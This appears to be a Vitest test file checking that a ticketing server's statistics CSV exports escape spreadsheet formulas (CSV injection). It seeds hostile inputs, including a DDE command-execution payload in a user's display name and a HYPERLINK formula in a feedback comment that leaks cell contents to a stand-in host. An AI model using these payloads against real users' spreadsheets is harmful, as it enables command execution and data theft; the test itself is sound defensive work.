import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IssueTicketResponse, UserView } from '../../server/src/protocol/index.js';
import { startServer, type TestServer } from '../support/server.js';
import { parseCsv } from './csvParse.js';

// A Tuesday in the demo hall (Europe/Helsinki); 09:00 local is 07:00 UTC.
const DAY = '2026-03-03';
const T0 = Date.UTC(2026, 2, 3, 7, 0);
const MIN = 60_000;
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports never hand a spreadsheet a live formula (OWASP CSV injection)', () => {
  let server: TestServer;
  let t = T0;
  let admin: string;

  beforeAll(async () => {
    server = await startServer({ now: () => t });
    admin = await server.login('admin');
    // A staff member whose display name is a formula, a pause reason that is one, and a comment that is one.
    const created = await server.api<UserView>('POST', '/api/v1/admin/users', {
      token: admin,
      body: { username: 'mallory', displayName: '=cmd|\' /C calc\'!A0', password: 'mallory-password', role: 'staff', organisationId: 'city' },
    });
    expect(created.status).toBe(201);
    const staff = await server.login('mallory', 'mallory-password');
    const ok = async (p: string, body?: unknown) => {
      const r = await server.api('POST', p, { token: staff, ...(body !== undefined ? { body } : {}) });
      expect([p, r.status]).toEqual([p, r.status < 300 ? r.status : 200]);
      return r.body;
    };
    await ok('/api/v1/counters/1/open');
    const issued = await server.api<IssueTicketResponse>('POST', '/api/v1/tickets', { body: { serviceId: 'identity' } });
    t += 2 * MIN;
    await ok('/api/v1/counters/1/next');
    await ok('/api/v1/counters/1/start');
    t += 5 * MIN;
    await ok('/api/v1/counters/1/finish', { outcome: 'resolved' });
    // Four more finished identity visits: comments show only for a service's day with at least 5 (feedback anonymity).
    for (let i = 0; i < 4; i++) {
      await server.api('POST', '/api/v1/tickets', { body: { serviceId: 'identity' } });
      await ok('/api/v1/counters/1/next');
      await ok('/api/v1/counters/1/start');
      t += MIN;
      await ok('/api/v1/counters/1/finish', { outcome: 'resolved' });
    }
    await ok('/api/v1/counters/1/pause', { reason: '+SUM(1,2)' });
    t += 3 * MIN;
    await ok('/api/v1/counters/1/unpause');
    await ok('/api/v1/counters/1/close');
    const fb = await server.api('POST', `/api/v1/tickets/status/${issued.body.ticket.statusToken}/feedback`, {
      body: { rating: 1, comment: '=HYPERLINK("http://x.example/?leak="&A1,"Click")' },
    });
    expect(fb.status).toBe(201);
    t += 10 * MIN;
  });
  afterAll(() => server.dispose());

  const exports = ['feedback', 'summary', 'counters', 'daily', 'heatmap', 'visits', 'live'];

  it('no cell of any statistics CSV starts with = + - @ tab or CR, unless it is a number', async () => {
    const seen: string[] = [];
    for (const p of exports) {
      const res = await fetch(`${server.url}/api/v1/stats/${p}?format=csv${p === 'live' ? '' : `&from=${DAY}&to=${DAY}`}`, {
        headers: { authorization: `Bearer ${admin}` },
      });
      expect([p, res.status]).toEqual([p, 200]);
      for (const row of parseCsv(await res.text())) {
        for (const cell of row) {
          seen.push(cell);
          if (FORMULA.test(cell)) expect([p, cell]).toEqual([p, expect.stringMatching(/^-\d+(\.\d+)?$/)]);
        }
      }
    }
    // The hostile texts are there, as text.
    expect(seen).toContain('\'=HYPERLINK("http://x.example/?leak="&A1,"Click")');
    expect(seen).toContain('\'=cmd|\' /C calc\'!A0');
    expect(seen.some((c) => c.startsWith('paused:\'+SUM') || c === '\'+SUM(1,2)' || c.includes('+SUM'))).toBe(true);
  });
});
